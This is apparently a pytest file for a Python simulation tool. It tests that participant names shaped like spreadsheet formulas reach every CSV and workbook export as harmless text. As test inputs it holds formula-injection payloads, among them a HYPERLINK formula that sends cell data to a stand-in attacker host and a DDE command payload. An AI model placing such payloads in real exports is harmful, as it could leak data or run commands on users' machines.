"""Issue 28 item 1: every spreadsheet-bound output goes through one safe writer.

A participant or team member named like a formula must reach every CSV and workbook the
project offers (the room's results, the lab's downloads, team files, `run`, `compare`,
`strategies --out`) as text a spreadsheet shows, never as a formula it runs.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

import lmxsim
from lmxsim.io import output
from lmxsim.io.output import FORMULA_START
from lmxsim.team.members import Member

FORMULA_NAMES = ['=HYPERLINK("http://e.vil/?"&A1,"klik")', "@SUM(1+1)", "+cmd|' /C calc'!A0"]


def formula_cells(data: bytes) -> list[str]:
    """The cells of a CSV download a spreadsheet would evaluate (numbers are not formulas)."""
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") > text.split("\r\n", 1)[0].count(",") else ","
    bad = []
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            try:
                float(cell.replace(",", "."))
            except ValueError:
                if cell.startswith(FORMULA_START):
                    bad.append(cell)
    return bad


def team() -> list[Member]:
    return [Member(name=n, ability=0.6, first_impression=0.3 + 0.2 * i) for i, n in enumerate(FORMULA_NAMES)]


def hostile_team_file(folder: Path) -> Path:
    from lmxsim.team.teamfile import save_team

    return save_team(team(), folder / "team.toml")  # TOML keeps the names as they are


def hostile_config(folder: Path) -> Path:
    import json

    people = "".join(
        f"[[team]]\nname = {json.dumps(m.name)}\nability = 0.6\nfirst_impression = {m.first_impression}\n"
        for m in team()
    )
    path = folder / "config.toml"
    path.write_text(f"weeks = 3\n{people}", encoding="utf-8")
    return path


def test_the_rooms_results_download_shows_formula_names_as_text():
    from lmxsim.app.room import Room, Run, Tried
    from lmxsim.app.room_results import csv_bytes, results_frame

    room = Room(cap=10)
    for name in FORMULA_NAMES:
        seat = room.join(name)
        assert seat is not None
        room.report(seat.id, Run(1, 1, 26, 26, (Tried("team", "sudden-praise", 3),)))
    data = csv_bytes(results_frame(room.seats()))
    assert formula_cells(data) == []
    assert data.decode().count("'=HYPERLINK") == 1  # shown, as text


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_the_labs_downloads_show_formula_names_as_text(lang):
    from lmxsim.app.lab_files import team_csv
    from lmxsim.app.lab_results import _downloads
    from lmxsim.lab.strategies import compare_strategies, ready_strategy

    assert formula_cells(team_csv(team(), lang)) == []
    comparison = compare_strategies(team(), [ready_strategy("reflection-every-4")], replications=3, weeks=4)
    files = _downloads(comparison, lang, None, None, None, None, ["x"])
    tables = [name for name in files if name.endswith(".csv")]
    assert len(tables) == 3
    for name in tables:
        data = files[name][1]()
        assert formula_cells(data) == [], name


def test_team_workbooks_hold_no_formula():
    from lmxsim.team.teamfile import team_to_xlsx

    book = load_workbook(io.BytesIO(team_to_xlsx(team())))
    values = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in values)
    assert not any(str(c.value).startswith(FORMULA_START) for c in values if c.data_type == "s")


def test_command_line_csv_outputs_show_formula_names_as_text(cli, tmp_path):
    team_file = hostile_team_file(tmp_path)
    outputs = {
        "run": tmp_path / "run.csv",
        "compare": tmp_path / "compare.csv",
    }
    code, _, err = cli("run", "--team", str(team_file), "--weeks", "3", "--out", str(outputs["run"]))
    assert code == 0, err
    code, _, err = cli(
        "compare", "-c", str(hostile_config(tmp_path)), "-i", "one-on-ones:team@1", "--out",
        str(outputs["compare"]),
    )  # fmt: skip
    assert code == 0, err
    folder = tmp_path / "strategies"
    code, _, err = cli(
        "strategies", "--team", str(team_file), "-s", "equal-latitude", "-r", "3", "-w", "4",
        "--out", str(folder),
    )  # fmt: skip
    assert code == 0, err
    written = [*outputs.values(), *sorted(folder.glob("*.csv"))]
    assert len(written) >= 5
    for path in written:
        data = path.read_bytes()
        assert formula_cells(data) == [], path.name
    assert "'=HYPERLINK" in outputs["run"].read_text()


WRITERS = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(|\.to_excel\(")


def test_no_module_but_the_safe_writer_writes_csv_or_workbooks():
    """One writer: a new download that bypasses it (as app/room_results.py did) fails here."""
    root = Path(lmxsim.__file__).parent
    writer = Path(output.__file__)
    others = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path != writer and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert others == []
